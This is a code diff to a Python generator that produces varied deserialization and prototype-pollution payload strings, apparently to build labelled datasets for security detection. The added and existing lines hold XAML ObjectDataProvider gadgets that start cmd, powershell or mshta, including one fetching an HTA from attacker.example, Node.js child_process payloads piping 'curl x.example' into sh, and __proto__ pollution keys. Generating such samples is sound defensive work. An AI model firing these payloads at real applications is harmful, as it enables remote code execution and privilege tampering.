@@ -346,6 +346,35 @@ def _php_value(rng: random.Random, depth: int = 0) -> str:
     return f'O:{len(cls)}:"{cls}":1:{{s:4:"data";{_php_value(rng, depth + 1)}}}'
 
 
+def _xaml_provider(rng: random.Random) -> str:
+    """A XAML ObjectDataProvider gadget (what ysoserial.net's XAML formatter emits) with varied
+    method and arguments, so that the family reaches every split rather than one fixed string."""
+    method = rng.choice(["Start", "Start", "Parse", "Load"])
+    cmd = rng.choice(["cmd", "calc", "powershell", "mshta"])
+    arg = rng.choice(["", "/c whoami", "-c id", "http://attacker.example/x.hta"])
+    ns = rng.choice(['xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation"',
+                     'xmlns:System="clr-namespace:System;assembly=mscorlib"'])
+    params = f"<System:String>{cmd}</System:String>" + (f"<System:String>{arg}</System:String>" if arg else "")
+    return (f'<ObjectDataProvider MethodName="{method}" {ns}><ObjectDataProvider.MethodParameters>{params}'
+            "</ObjectDataProvider.MethodParameters></ObjectDataProvider>")
+
+
+def _prototype_pollution(rng: random.Random) -> str:
+    """JavaScript prototype pollution in the shapes parsers merge: JSON `__proto__` or
+    `constructor.prototype` objects (nested or not) and bracket or dotted form keys."""
+    prop = rng.choice(["isAdmin", "admin", "role", "polluted", "toString", "debug", "allowed", "shell", "outputFunctionName"])
+    val = rng.choice(["true", "1", '"admin"', '"x"'])
+    form_val = val.strip('"')
+    return rng.choice([
+        f'{{"__proto__":{{"{prop}":{val}}}}}',
+        f'{{"constructor":{{"prototype":{{"{prop}":{val}}}}}}}',
+        f'{{"{_rs(rng, 3)}":{{"__proto__":{{"{prop}":{val}}}}}}}',
+        f"__proto__[{prop}]={form_val}",
+        f"constructor[prototype][{prop}]={form_val}",
+        f"__proto__.{prop}={form_val}",
+    ])
+
+
 def gen_deser(rng: random.Random, n: int, java_classes: list[str]) -> list[Payload]:
     import base64
     jcls = _JAVA_GADGETS + [c for c in java_classes if c.count(".") >= 2][:200]
@@ -373,7 +402,7 @@ def gen_deser(rng: random.Random, n: int, java_classes: list[str]) -> list[Paylo
             s = rng.choice([f'{{"$type":"{cls}","MethodName":"Start","ObjectInstance":{{"$type":"System.Diagnostics.Process, System"}}}}',
                             f'{{"$type":"{cls}","Path":"file:///c:/x.dll"}}', f'{{"$type":"{cls}"}}',
                             "AAEAAAD/////AQAAAAAAAAAMAgAAA" + base64.b64encode(bytes(rng.getrandbits(8) for _ in range(rng.randint(30, 90)))).decode(),
-                            f'<ObjectDataProvider MethodName="Start" xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation"><ObjectDataProvider.MethodParameters><System:String>cmd</System:String></ObjectDataProvider.MethodParameters></ObjectDataProvider>'])
+                            _xaml_provider(rng)])
         elif fam == "java-bin":
             cls = rng.choice(jcls).encode()
             raw = b"\xac\xed\x00\x05" + rng.choice([b"sr\x00", b"sr\x00", b"ur\x00", b"sq\x00"]) + len(cls).to_bytes(1, "big") + cls + bytes(rng.getrandbits(8) for _ in range(rng.randint(16, 160)))
@@ -411,12 +440,12 @@ def gen_deser(rng: random.Random, n: int, java_classes: list[str]) -> list[Paylo
                             '!!com.sun.rowset.JdbcRowSetImpl {{dataSourceName: "ldap://{h}", autoCommit: true}}',
                             "!ruby/object:Gem::Requirement\nrequirements: !ruby/object:Gem::DependencyList"])
             s = s.replace("{c}", rng.choice(["id", "whoami", "curl x.example"])).replace("{h}", host).replace("{{", "{").replace("}}", "}")
-        else:
+        elif rng.random() < 0.3:
             s = rng.choice(["{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('{c}')}()\"}",
                             "_$$ND_FUNC$$_function(){return require('child_process').execSync('{c}')}()",
-                            '{"__proto__":{"isAdmin":true}}', '{"constructor":{"prototype":{"polluted":1}}}',
-                            '{"__proto__":{"shell":"/proc/self/exe","argv0":"{c}"}}', "__proto__[admin]=1",
-                            '{"a":{"__proto__":{"toString":"x"}}}', "constructor[prototype][isAdmin]=true"])
+                            '{"__proto__":{"shell":"/proc/self/exe","argv0":"{c}"}}'])
             s = s.replace("{c}", rng.choice(["id", "whoami", "curl x.example|sh"]))
+        else:
+            s = _prototype_pollution(rng)
         out.append(Payload("deserialization", s, "gen", f"deser-{fam}", rng.choice(["any", "cookie", "any"])))
     return out
